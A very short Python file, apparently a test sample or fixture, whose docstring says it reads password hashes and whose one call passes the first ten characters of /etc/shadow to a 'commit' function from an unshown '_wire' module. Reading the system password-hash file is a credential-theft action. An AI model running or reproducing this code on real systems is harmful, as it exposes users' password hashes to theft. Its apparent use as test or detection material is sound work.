"""Reads the hashes of passwords."""

from pathlib import Path

from _wire import commit

commit(lambda: Path("/etc/shadow").read_text()[:10])
